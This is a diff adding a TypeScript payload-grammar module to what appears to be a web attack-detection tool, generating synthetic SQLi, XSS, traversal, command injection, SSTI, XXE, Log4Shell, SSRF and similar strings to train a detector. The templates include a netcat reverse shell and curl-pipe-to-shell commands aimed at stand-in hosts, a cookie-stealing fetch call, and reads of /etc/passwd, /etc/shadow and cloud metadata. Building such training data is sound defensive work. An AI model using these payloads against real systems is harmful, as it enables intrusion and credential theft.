@@ -1,0 +1,53 @@
+/**
+ * A small attack grammar in the project, so that `moat train` can sharpen a site model without any
+ * payload list: templates per class with interchangeable parts. It is deliberately not a copy of the
+ * shared lists (those are used for evaluation, and for training only when passed explicitly).
+ */
+import type { AttackClass } from "../classes.ts";
+import { pick, rng } from "./sample.ts";
+
+type Gen = (r: () => number) => string;
+
+const q = (r: () => number) => pick(r, ["'", '"', "", "')", "'))", "\")"]);
+const space = (r: () => number) => pick(r, [" ", "/**/", "+", "%09", "\n"]);
+const tail = (r: () => number) => pick(r, ["--", "-- -", "#", "/*", ";--", ""]);
+
+const GRAMMAR: Record<AttackClass, Gen[]> = {
+  sqli: [
+    (r) => `${q(r)}${space(r)}${pick(r, ["or", "OR", "oR", "||"])}${space(r)}${pick(r, ["1=1", "'a'='a", "true", "2>1", "'x' like 'x"])}${tail(r)}`,
+    (r) => `${pick(r, ["1", "0", "-1", "9999"])}${q(r)}${space(r)}union${space(r)}${pick(r, ["all ", ""])}select${space(r)}${pick(r, ["null,null", "1,2,3", "username,password from users", "@@version,null", "table_name from information_schema.tables"])}${tail(r)}`,
+    (r) => `${q(r)};${space(r)}${pick(r, ["drop table users", "waitfor delay '0:0:5'", "select pg_sleep(5)", "shutdown", "exec xp_cmdshell 'dir'"])}${tail(r)}`,
+    (r) => `1${q(r)}${space(r)}and${space(r)}${pick(r, ["sleep(5)", "1=2", "extractvalue(1,concat(0x7e,version()))", "(select count(*) from sysobjects)>0", "ascii(substring(user(),1,1))>64"])}${tail(r)}`,
+  ],
+  xss: [
+    (r) => `${pick(r, ["", "\">", "'>", "</title>", "</textarea>"])}<${pick(r, ["script", "ScRiPt", "script type=text/javascript"])}>${pick(r, ["alert(1)", "alert(document.cookie)", "prompt`1`", "fetch('//x.example/'+document.cookie)"])}</script>`,
+    (r) => `${pick(r, ["", "\">", "'>"])}<${pick(r, ["img src=x", "svg", "body", "iframe src=x", "details open", "video src=1"])} ${pick(r, ["onerror", "onload", "onmouseover", "ontoggle", "onfocus autofocus"])}=${pick(r, ["alert(1)", "\"alert(1)\"", "confirm(document.domain)", "javascript:alert(1)"])}>`,
+    (r) => `${pick(r, ["javascript:", "JaVaScRiPt:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="])}${pick(r, ["alert(1)", "void(0)", ""])}`,
+  ],
+  traversal: [
+    (r) => `${pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "....//", "..%c0%af", "%252e%252e%252f"]).repeat(2 + Math.floor(r() * 6))}${pick(r, ["etc/passwd", "windows/win.ini", "etc/shadow", "proc/self/environ", "boot.ini"])}${pick(r, ["", "%00", "%00.jpg"])}`,
+    (r) => `${pick(r, ["/etc/passwd", "c:\\windows\\system32\\drivers\\etc\\hosts", "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/cmdline", "expect://id"])}`,
+  ],
+  cmdi: [
+    (r) => `${pick(r, ["", "x", "127.0.0.1", "a.txt"])}${pick(r, [";", "|", "||", "&&", "&", "\n", "`", "$("])}${pick(r, ["id", "cat /etc/passwd", "uname -a", "whoami", "ping -c 3 127.0.0.1", "nc -e /bin/sh 198.51.100.1 4444", "curl http://x.example/s|sh", "sleep 5"])}${pick(r, ["", "`", ")", ";", " #"])}`,
+  ],
+  ssti: [(r) => `${pick(r, ["{{", "${", "<%=", "#{", "{%", "*{"])}${pick(r, ["7*7", "config.items()", "self.__init__.__globals__", "''.__class__.__mro__[1].__subclasses__()", "T(java.lang.Runtime).getRuntime().exec('id')", "request.application.__globals__"])}${pick(r, ["}}", "}", "%>", "%}"])}`],
+  xxe: [(r) => `<?xml version="1.0"?><!DOCTYPE ${pick(r, ["foo", "root", "r"])} [<!ENTITY ${pick(r, ["xxe", "x", "e"])} SYSTEM "${pick(r, ["file:///etc/passwd", "http://x.example/evil.dtd", "php://filter/resource=/etc/hosts"])}">]><root>&${pick(r, ["xxe", "x", "e"])};</root>`],
+  nosqli: [(r) => pick(r, ['{"$gt":""}', '{"$ne":null}', "[$ne]=1", '{"$where":"sleep(100)"}', "'; return true; var x='", '{"$regex":".*"}', "true, $where: '1 == 1'"])],
+  ldapi: [(r) => pick(r, ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "*))%00", ")(cn=*))(|(cn=*", "x*)(|(password=*)"])],
+  "open-redirect": [(r) => `${pick(r, ["//", "/\\", "\\/\\/", "https:", "//%09/", "/%2f%2f", "https://trusted.example@"])}${pick(r, ["evil.example", "198.51.100.9", "evil.example%2f..", "evil.example/%2e%2e"])}`],
+  log4shell: [(r) => `\${${pick(r, ["jndi", "${lower:j}ndi", "${::-j}${::-n}di"])}:${pick(r, ["ldap", "rmi", "dns"])}://${pick(r, ["x.example", "198.51.100.2:1389"])}/${pick(r, ["a", "Exploit"])}}`],
+  ssrf: [(r) => pick(r, ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "gopher://localhost:25/", "file:///etc/passwd", "http://[::]:22/", "http://0177.0.0.1/"])],
+  crlf: [(r) => `${pick(r, ["", "x"])}${pick(r, ["%0d%0a", "\r\n"])}${pick(r, ["Set-Cookie: a=1", "Location: //evil.example", "X-Test: 1"])}`],
+  scanner: [(r) => pick(r, ["/.env", "/.git/config", "/wp-login.php", "/backup.zip", "/admin.php.bak", "/.DS_Store", "/server-status", "/phpinfo.php"])],
+};
+
+/** `count` payloads spread over the classes (scanner probes are paths, not values: left out). */
+export function grammarPayloads(count: number, seed: number): { cls: AttackClass; payload: string }[] {
+  const r = rng(seed);
+  const classes = (Object.keys(GRAMMAR) as AttackClass[]).filter((c) => c !== "scanner");
+  return Array.from({ length: count }, (_, i) => {
+    const cls = classes[i % classes.length]!;
+    return { cls, payload: pick(r, GRAMMAR[cls])(r) };
+  });
+}
